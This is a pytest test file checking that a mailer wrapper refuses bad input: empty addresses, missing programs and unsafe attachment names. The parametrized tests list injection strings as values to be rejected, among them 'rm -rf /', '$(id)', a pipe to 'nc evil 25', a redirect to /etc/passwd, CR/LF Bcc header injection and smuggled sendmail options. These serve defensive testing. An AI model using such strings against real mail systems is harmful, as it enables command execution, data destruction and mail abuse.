"""Bad input is refused with a clear log line, and nothing reaches the mailer."""

from __future__ import annotations

import os
import stat

import pytest


@pytest.fixture
def recorder(tmp_path):
    """A real program standing in as mailer-app that records that it was run."""
    marker = tmp_path / "ran"
    prog = tmp_path / "record-mailer"
    prog.write_text(f'#!/bin/sh\necho "$@" >> {marker}\ncat > /dev/null\n')
    prog.chmod(prog.stat().st_mode | stat.S_IXUSR)
    return str(prog), marker


def _refused(logs, text):
    return any("EMAIL NOT SENT" in line and text in line for line in logs)


def test_no_to(make_mailer, recorder, logs):
    m = make_mailer(mailer_app=recorder[0], mailer_app_args="")
    assert m.send("") is False
    assert m.send(None) is False
    assert m.send("   ", "x@example.org", "Subject: a", "b") is False
    assert _refused(logs, "No to address specified")
    assert not recorder[1].exists()


@pytest.mark.parametrize(
    "to",
    [
        "a@example.org; rm -rf /",
        "a@example.org`id`",
        "$(id)@example.org",
        "a@example.org | nc evil 25",
        "a@example.org && reboot",
        "a@example.org>/etc/passwd",
        "<a@example.org>",
        "a@example.org\nBcc: victim@example.org",
        "a@example.org\rBcc: victim@example.org",
        "-oQ/tmp/x",
        "a@example.org,,b@example.org",
        "a b@example.org",
        "a@example.org,-X/tmp/log",
    ],
)
def test_injection_in_to_refused(make_mailer, recorder, logs, to, tmp_path):
    m = make_mailer(mailer_app=recorder[0], mailer_app_args="")
    assert m.send(to, "pbx@example.org", "Subject: x", "y") is False
    assert _refused(logs, "refusing to address") or _refused(logs, "empty address in to list")
    assert not recorder[1].exists()
    assert os.listdir(tmp_path / "temp") == []


@pytest.mark.parametrize(
    "sender",
    ["pbx@example.org;id", "`id`", "$(id)", "pbx@example.org\nBcc: x@y.org", "-C/tmp/evil", "a&b"],
)
def test_injection_in_from_refused(make_mailer, recorder, logs, sender):
    m = make_mailer(mailer_app=recorder[0], mailer_app_args="")
    assert m.send("a@example.org", sender, "Subject: x", "y") is False
    assert _refused(logs, "refusing from address")
    assert not recorder[1].exists()


@pytest.mark.parametrize(
    "headers",
    [
        "Subject: hi\n\nInjected body",
        "Subject: hi\rBcc: victim@example.org",
        "Subject: hi\nnot a header line",
        " leading continuation",
        "Subject: a\0b",
    ],
)
def test_header_injection_refused(make_mailer, recorder, logs, headers):
    m = make_mailer(mailer_app=recorder[0], mailer_app_args="")
    assert m.send("a@example.org", "b@example.org", headers, "y") is False
    assert _refused(logs, "refusing headers")
    assert not recorder[1].exists()


def test_header_values_with_shell_characters_are_fine(make_mailer, recorder):
    m = make_mailer(mailer_app=recorder[0], mailer_app_args="-t")
    assert m.send(
        "a@example.org",
        "b@example.org",
        'From: "A & B" <b@example.org>\nSubject: $(x) `y` | z; w',
        "y",
    )
    # argv, not a shell: the recorder saw exactly -f, from, -t, to
    assert recorder[1].read_text().split() == ["-f", "b@example.org", "-t", "a@example.org"]


def test_missing_attachment(make_mailer, recorder, logs, tmp_path):
    m = make_mailer(mailer_app=recorder[0], mailer_app_args="")
    assert m.send("a@example.org", "", "Subject: x", "y", str(tmp_path / "nope.wav")) is False
    assert _refused(logs, "cannot open attachment")
    assert not recorder[1].exists()
    assert os.listdir(tmp_path / "temp") == []


def test_attachment_name_with_newline_refused(make_mailer, recorder, logs, tmp_path):
    m = make_mailer(mailer_app=recorder[0], mailer_app_args="")
    assert m.send("a@example.org", "", "", "", str(tmp_path / 'x\n".wav')) is False
    assert _refused(logs, "refusing attachment file name")


def test_convert_program_missing(make_mailer, recorder, logs, tmp_path):
    wav = tmp_path / "a.wav"
    wav.write_bytes(b"RIFF")
    m = make_mailer(mailer_app=recorder[0], mailer_app_args="")
    assert m.send("a@example.org", "", "", "", str(wav), "/nonexistent/lame -b 16", "mp3") is False
    assert _refused(logs, "convert program '/nonexistent/lame' not found")
    assert not recorder[1].exists()


def test_convert_producing_nothing(make_mailer, recorder, logs, tmp_path):
    wav = tmp_path / "a.wav"
    wav.write_bytes(b"RIFF")
    m = make_mailer(mailer_app=recorder[0], mailer_app_args="")
    assert m.send("a@example.org", "", "", "", str(wav), "false", "mp3") is False
    assert any("convert command false exited with 1" in line for line in logs)
    assert _refused(logs, "cannot open attachment")


def test_convert_without_extension_attaches_original(make_mailer, recorder, tmp_path):
    f = tmp_path / "noext"
    f.write_bytes(b"data")
    m = make_mailer(mailer_app=recorder[0], mailer_app_args="")
    assert m.send("a@example.org", "", "", "", str(f), "false", "mp3") is True


def test_mailer_program_missing_is_refused_not_spooled(make_mailer, logs, tmp_path):
    m = make_mailer(mailer_app="/nonexistent/sendmail", mailer_app_args="-t")
    res = m.send_ex("a@example.org", "b@example.org", "Subject: x", "y")
    assert res.status == "refused"
    assert "mailer program '/nonexistent/sendmail' not found" in res.reason
    assert _refused(logs, "not found")
    assert len(m.spool) == 0
    assert os.listdir(tmp_path / "temp") == []


def test_mailer_program_not_executable(make_mailer, logs, tmp_path):
    prog = tmp_path / "notexec"
    prog.write_text("#!/bin/sh\n")
    m = make_mailer(mailer_app=str(prog), mailer_app_args="")
    assert m.send("a@example.org") is False
    assert _refused(logs, "is not executable")


def test_unbalanced_quote_in_mailer_args(make_mailer, logs):
    m = make_mailer(mailer_app="msmtp", mailer_app_args="-C '/tmp/x")
    assert m.send("a@example.org") is False
    assert _refused(logs, "cannot parse mailer-app-args")
